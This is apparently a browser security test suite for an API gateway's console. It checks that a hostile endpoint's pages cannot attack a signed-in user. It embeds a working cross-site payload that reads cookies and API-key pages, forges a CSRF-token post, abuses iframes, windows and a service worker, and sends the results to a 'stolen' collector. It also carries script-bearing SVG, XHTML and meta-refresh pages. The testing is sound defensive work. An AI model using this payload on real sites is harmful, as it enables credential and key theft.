import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type ConsoleWorld, startConsole } from "../console/visit.ts";
import { Origin } from "../harness/origin.ts";
import { type Browser, type BrowserContext, launchBrowser, newVisitor, type Page } from "./browser.ts";

// An endpoint may be anybody's, and its answers come from the same host as the console. Here it is a hostile
// one, and somebody who is signed in to the console opens its pages in the same browser.

const SECRET_NAME = "The key that nobody else may see";

let world: ConsoleWorld;
let origin: Origin;
let browser: Browser;
let context: BrowserContext;
/** Path of the hostile endpoint's pages; the key is in the query, so that a browser can go there. */
let at: (page: string) => string;

/** Everything a page can try against the console, telling the collector what it got. */
const ATTACK = `
const tell = (what, got) => fetch(COLLECTOR + "/" + what, { method: "POST", mode: "no-cors", body: String(got) }).catch(() => {});
const tried = (what, act) => Promise.resolve().then(act).then((got) => tell(what, got), () => {});
tell("ran", location.href);
tried("cookie", () => { if (document.cookie === "") throw 0; return document.cookie; });
tried("read", async () => {
  const response = await fetch("/console/settings/api-keys", { credentials: "include" });
  return response.text();
});
tried("post", async () => {
  const page = await (await fetch("/console/settings/api-keys", { credentials: "include" })).text();
  const token = /name="form_token" value="([^"]+)"/.exec(page)[1];
  const body = new URLSearchParams({ form_token: token, account: "acme" });
  return (await fetch("/console/account", { method: "POST", credentials: "include", body })).status;
});
tried("window", async () => {
  const opened = open("/console/settings/api-keys");
  await new Promise((done) => setTimeout(done, 200));
  return opened.document.body.innerText;
});
tried("frame", async () => {
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.src = "/console/settings/api-keys";
  await new Promise((done) => { frame.onload = done; });
  return frame.contentDocument.body.innerText;
});
tried("worker", async () => (await navigator.serviceWorker.register("sw.js" + location.search, { scope: "/" })).scope);
`;

beforeAll(async () => {
  [world, origin, browser] = await Promise.all([startConsole(), Origin.start(), launchBrowser()]);
  const { gateway } = world;
  await gateway.createAccount("acme");
  await gateway.createKey({ name: SECRET_NAME });
  await gateway.createEndpoint({ id: "evil", protocol: "http", origin: origin.url, allow_query_key: true });
  const key = await gateway.createKey({ permissions: { inference: "read_write" } });
  at = (page) => `${gateway.url}/v2/evil/${page}?api_key=${key.key}`;

  const attack = ATTACK.replaceAll("COLLECTOR", JSON.stringify(`${origin.url}/stolen`));
  const scripted = `<script>${attack}</script>`;
  const pages: Record<string, [type: string, body: string]> = {
    "page.html": ["text/html", `<!doctype html><title>evil</title><h1>Hello</h1>${scripted}`],
    "page.svg": [
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${attack}]]></script></svg>`,
    ],
    "page.xhtml": [
      "application/xhtml+xml",
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[${attack}]]></script></head><body/></html>`,
    ],
    // No type at all: a browser that guesses would guess HTML.
    "page.none": ["", `<!doctype html><h1>Hello</h1>${scripted}`],
    "form.html": [
      "text/html",
      `<!doctype html><form method="post" action="/console/sign-out"><input name="form_token" value="x"><button>Win a prize</button></form>`,
    ],
    "refresh.html": [
      "text/html",
      `<!doctype html><meta http-equiv="refresh" content="0;url=javascript:fetch('${origin.url}/stolen/ran')">`,
    ],
    "sw.js": [
      "text/javascript",
      "self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')));",
    ],
    "x.js": ["text/javascript", attack],
  };
  for (const [name, [type, body]] of Object.entries(pages)) {
    origin.on(`/${name}`, ({ response }) => {
      response.writeHead(200, {
        ...(type !== "" && { "content-type": type }),
        "set-cookie": ["postern_session=planted; Path=/", "__Host-postern_session=planted; Path=/; Secure"],
        "content-security-policy": "default-src * 'unsafe-inline' 'unsafe-eval'",
        "service-worker-allowed": "/",
        "access-control-allow-origin": "*",
        "clear-site-data": '"cookies"',
      });
      response.end(body);
    });
  }
});
afterAll(async () => {
  await browser?.close();
  await world?.stop();
  await origin?.stop();
});

let page: Page;

beforeEach(async () => {
  context = await newVisitor(browser);
  page = await context.newPage();
  await page.goto(await world.link("acme"));
  expect(await page.content()).toContain(SECRET_NAME);
  origin.clear();
  return () => context.close();
});

/** What the attack could tell its collector, by what it tried. */
const stolen = () =>
  Object.fromEntries(
    origin.requests
      .filter(({ target }) => target.startsWith("/stolen/"))
      .map(({ target, body }) => [target.slice("/stolen/".length), body.toString()]),
  );

/** Opens a page of the hostile endpoint, and gives it time to do what it can. */
async function fallFor(name: string): Promise<void> {
  await page.goto(at(name)).catch(() => {}); // a download is no navigation
  await page.waitForTimeout(700);
}

async function expectUnharmed(): Promise<void> {
  const cookies = await context.cookies(world.gateway.url);
  expect(cookies.map(({ name }) => name)).toEqual(["postern_session"]);
  expect(cookies[0]!.value).not.toBe("planted");
  await page.goto(`${world.gateway.url}/console/settings/api-keys`);
  expect(await page.content()).toContain(SECRET_NAME);
}

test("the attack works where nothing is in its way: without the gateway's headers it reads and acts", async () => {
  const own = ["content-security-policy", "x-content-type-options"];
  await context.route("**/v2/evil/**", async (route) => {
    const response = await route.fetch();
    const headers = Object.entries(response.headers()).filter(([name]) => !own.includes(name));
    await route.fulfill({ response, headers: Object.fromEntries(headers) });
  });
  await fallFor("page.html");
  expect(stolen().read).toContain(SECRET_NAME);
  expect(stolen().post).toBe("200");
  // HttpOnly, frame-ancestors and the opener policy hold even then.
  expect(Object.keys(stolen()).sort()).toEqual(["post", "ran", "read"]);
});

describe("a page that an origin answers", () => {
  test.each(["page.html", "page.svg", "page.xhtml", "page.none", "refresh.html", "x.js"])(
    "%s runs nothing",
    async (name) => {
      await fallFor(name);
      expect(origin.requests.some(({ target }) => target.startsWith(`/${name}`))).toBe(true);
      expect(stolen()).toEqual({});
      await expectUnharmed();
    },
  );

  test("cannot make somebody post to the console", async () => {
    await page.goto(at("form.html"));
    await page.getByRole("button").click();
    await page.waitForTimeout(500);
    expect(page.url()).toContain("/v2/evil/form.html");
    await expectUnharmed();
  });
});

test("the console cannot be made to run an origin's script, load its style, or post to it", async () => {
  const blocked: string[] = [];
  page.on("console", (message) => blocked.push(message.text()));
  // As if markup had got into a page of the console.
  await page.evaluate((url) => {
    const script = Object.assign(document.createElement("script"), { src: url });
    const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url });
    const form = Object.assign(document.createElement("form"), { method: "post", action: url });
    document.head.append(script as never, style as never);
    document.body.append(form as never);
    form.submit();
    void fetch(url).catch(() => {});
  }, at("x.js"));
  await page.waitForTimeout(500);
  expect(origin.requests).toEqual([]);
  for (const directive of ["script-src", "style-src", "form-action", "connect-src"]) {
    expect(blocked.join("\n")).toContain(directive);
  }
  await expectUnharmed();
});

test("no page anywhere can frame the console, or keep hold of a window with it", async () => {
  const [other] = [await context.newPage()];
  await other.goto(`${origin.url}/`);
  const seen = await other.evaluate(async (url) => {
    const frame = Object.assign(document.createElement("iframe"), { src: url });
    document.body.append(frame as never);
    const opened = window.open(url);
    await new Promise((done) => setTimeout(done, 1000));
    return { framed: frame.contentDocument?.body.textContent ?? null, closed: opened?.closed };
  }, `${world.gateway.url}/console/settings/api-keys`);
  expect(seen.framed ?? "").not.toContain(SECRET_NAME);
  // The opener policy has cut the window loose.
  expect(seen.closed).toBe(true);
});
